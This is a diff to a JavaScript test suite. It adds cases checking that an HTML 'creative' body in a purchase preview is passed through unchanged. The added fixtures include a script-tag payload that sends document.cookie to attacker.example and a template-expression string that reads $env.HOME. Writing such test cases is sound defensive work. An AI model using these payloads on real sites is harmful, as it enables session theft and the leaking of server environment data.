@@ -88,6 +88,8 @@ describe('the creative of a purchase', () => {
 	test.each([
 		['empty', ''],
 		['JSON', '{"items":[]}'],
+		['a script', '<script>fetch("https://attacker.example/" + document.cookie)</script>'],
+		['an expression', '<p>={{ $env.HOME }} {{ 1 + 1 }}</p>'],
 	])('is handed on as it is: %s', async (_what, body) => {
 		nodes.control.addFault({ kind: 'html', body });
 		expect((await nodes.run(previewCreative, purchase())).items[0].json.html).toBe(body);
